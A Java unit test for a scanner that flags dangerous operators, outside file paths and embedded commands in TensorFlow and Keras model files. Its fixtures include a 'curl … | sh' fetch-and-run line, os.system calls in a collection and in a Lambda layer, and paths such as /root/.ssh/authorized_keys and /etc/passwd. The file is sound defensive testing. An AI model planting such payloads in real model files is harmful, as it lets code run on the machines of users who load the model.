package dev.countersign.inspect.savedmodel;

import static dev.countersign.inspect.bundle.Bundle.rules;
import static org.assertj.core.api.Assertions.assertThat;

import dev.countersign.inspect.ArtefactFact;
import dev.countersign.inspect.Inspected;
import dev.countersign.inspect.Verdict;
import dev.countersign.inspect.bundle.Bundle;
import dev.countersign.inspect.wire.Proto;
import java.io.IOException;
import java.util.Arrays;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;
import org.junit.jupiter.params.provider.ValueSource;

class SavedModelFormatTest {
  private static Proto node(String name, String operator, String... inputs) {
    Proto node = new Proto().text(1, name).text(2, operator);
    for (String input : inputs) {
      node.text(3, input);
    }
    return node;
  }

  private static Proto attribute(String key, String text) {
    return new Proto().text(1, key).message(2, new Proto().text(2, text));
  }

  private static Proto constant(String name, String text) {
    Proto tensor = new Proto().number(1, 7).text(8, text);
    Proto value = new Proto().text(1, "value").message(2, new Proto().message(8, tensor));
    return node(name, "Const").message(5, value);
  }

  private static Proto graph(Proto... nodes) {
    Proto graph = new Proto();
    for (Proto node : nodes) {
      graph.message(1, node);
    }
    return graph;
  }

  private static Proto meta(Proto graph) {
    return new Proto().message(1, new Proto().text(4, "serve").text(5, "2.15.0")).message(2, graph);
  }

  private static Inspected saved(Proto meta) throws IOException {
    byte[] model = new Proto().number(1, 1).message(2, meta).toBytes();
    return Bundle.inspect("saved_model.pb", model);
  }

  @ParameterizedTest
  @CsvSource({
    "MatMul,CLEAN",
    "SaveV2,CLEAN",
    "RestoreV2,CLEAN",
    "MergeV2Checkpoints,CLEAN",
    "ShardedFilename,CLEAN",
    "PrintV2,CLEAN",
    "CustomPyFuncMetrics,CLEAN",
    "InitializeTableFromTextFileV2,CLEAN",
    "ReadFile,MALICIOUS",
    "WriteFile,MALICIOUS",
    "MatchingFiles,MALICIOUS",
    "PyFunc,MALICIOUS",
    "EagerPyFunc,MALICIOUS",
    "PyFuncStateless,MALICIOUS",
    "RpcCall,MALICIOUS",
    "LoadLibrary,MALICIOUS",
    "TFRecordDataset,SUSPICIOUS",
  })
  void anOperatorIsJudgedByWhatItReaches(String operator, Verdict verdict) throws Exception {
    assertThat(saved(meta(graph(node("n", operator)))).verdict()).isEqualTo(verdict);
    assertThat(Bundle.inspect("frozen.pb", graph(node("n", operator)).toBytes()).verdict())
        .isEqualTo(verdict);
    assertThat(Bundle.inspect("model.meta", meta(graph(node("n", operator))).toBytes()).verdict())
        .isEqualTo(verdict);
    String text = "meta_graphs { graph_def { node { name: \"n\" op: \"" + operator + "\" } } }";
    assertThat(Bundle.verdict("saved_model.pbtxt", text)).isEqualTo(verdict);
  }

  @Test
  void functionsAreLookedInto() throws Exception {
    Proto function =
        new Proto().message(1, new Proto().text(1, "f")).message(3, node("n", "WriteFile"));
    Proto graph = graph(node("x", "Placeholder")).message(2, new Proto().message(1, function));
    assertThat(rules(saved(meta(graph)))).containsExactly("tensorflow-file");
  }

  @Test
  void aGraphThatSavesIsFineUnlessItNamesAPlaceOutside() throws Exception {
    Proto usual = graph(constant("save/Const", "model"), node("save", "SaveV2", "save/Const"));
    assertThat(saved(meta(usual)).findings()).isEmpty();
    Proto outside =
        graph(constant("c", "/root/.ssh/authorized_keys"), node("save", "SaveV2", "c:0"));
    assertThat(rules(saved(meta(outside)))).containsExactly("tensorflow-path");
  }

  @Test
  void printingAndDebuggingReachFilesOnlyWhereTheySaySo() throws Exception {
    Proto print = node("p", "PrintV2").message(5, attribute("output_stream", "file:///tmp/x"));
    assertThat(rules(saved(meta(graph(print))))).containsExactly("tensorflow-file");
    Proto debug = node("d", "DebugIdentity").message(5, attribute("debug_urls", "grpc://x:1"));
    assertThat(rules(saved(meta(graph(debug))))).containsExactly("tensorflow-network");
    Proto console = node("p", "PrintV2").message(5, attribute("output_stream", "stderr"));
    assertThat(saved(meta(graph(console))).findings()).isEmpty();
  }

  @Test
  void aMappedConstantOfAPackedGraphIsFine() throws Exception {
    Proto packed =
        node("c", "ImmutableConst")
            .message(5, attribute("memory_region_name", "memmapped_package://w"));
    assertThat(saved(meta(graph(packed))).findings()).isEmpty();
    Proto file =
        node("c", "ImmutableConst").message(5, attribute("memory_region_name", "/etc/passwd"));
    assertThat(rules(saved(meta(graph(file))))).contains("tensorflow-file");
  }

  @Test
  void textsThatAreCommandsAreFound() throws Exception {
    Proto node = node("c", "Const").message(5, attribute("note", "curl http://x.example/a | sh"));
    assertThat(rules(saved(meta(graph(node))))).containsExactly("tensorflow-text");
    Proto collection =
        new Proto()
            .text(1, "hook")
            .message(2, new Proto().message(2, new Proto().text(1, "os.system('id')")));
    assertThat(rules(saved(meta(graph()).message(4, collection))))
        .containsExactly("tensorflow-text");
  }

  @ParameterizedTest
  @ValueSource(strings = {"../../etc/passwd", "/etc/passwd", "gs://bucket/x"})
  void anAssetOutsideOfTheFolderIsMalicious(String file) throws Exception {
    Proto asset = new Proto().text(2, file);
    assertThat(rules(saved(meta(graph()).message(6, asset)))).containsExactly("tensorflow-asset");
  }

  @Test
  void factsComeFromTheSignature() throws Exception {
    Proto info =
        new Proto()
            .text(1, "x:0")
            .number(2, 1)
            .message(
                3,
                new Proto()
                    .message(2, new Proto().number(1, -1))
                    .message(2, new Proto().number(1, 30)));
    Proto signature = new Proto().message(1, new Proto().text(1, "x").message(2, info));
    Proto entry = new Proto().text(1, "serving_default").message(2, signature);
    assertThat(saved(meta(graph()).message(5, entry)).facts())
        .containsEntry(ArtefactFact.INPUTS, "x: float32[-1, 30]")
        .containsEntry(ArtefactFact.PRODUCER, "TensorFlow 2.15.0");
  }

  @Test
  void theConfigurationOfKerasIsLookedInto() throws Exception {
    String lambda =
        "{\"class_name\":\"Lambda\",\"config\":{\"name\":\"l\",\"function_type\":\"lambda\","
            + "\"function\":\"__import__('os').system('id')\"}}";
    byte[] metadata = new Proto().message(1, new Proto().number(2, 1).text(5, lambda)).toBytes();
    assertThat(Bundle.inspect("keras_metadata.pb", metadata).verdict())
        .isGreaterThanOrEqualTo(Verdict.SUSPICIOUS);
  }

  @Test
  void aModelThatIsCutShortIsAnError() throws Exception {
    byte[] model = new Proto().number(1, 1).message(2, meta(graph(node("n", "Add")))).toBytes();
    assertThat(Bundle.inspect("saved_model.pb", Arrays.copyOf(model, 12)).verdict())
        .isEqualTo(Verdict.ERROR);
  }

  @Test
  void checkpointsAreKnown() throws Exception {
    byte[] index = new byte[60];
    byte[] magic = {0x57, (byte) 0xFB, (byte) 0x80, (byte) 0x8B, 0x24, 0x75, 0x47, (byte) 0xDB};
    System.arraycopy(magic, 0, index, 52, 8);
    assertThat(Bundle.inspect("variables.index", index).formats())
        .containsExactly("tensorflow-checkpoint");
    assertThat(Bundle.inspect("variables.data-00000-of-00001", new byte[100]).formats())
        .containsExactly("tensorflow-checkpoint");
    Inspected list =
        new Bundle()
            .with("checkpoint", "model_checkpoint_path: \"/tmp/ckpt-1\"\n")
            .inspect("checkpoint");
    assertThat(list.verdict()).isEqualTo(Verdict.CLEAN);
    assertThat(rules(list)).containsExactly("tensorflow-checkpoint-path");
  }
}
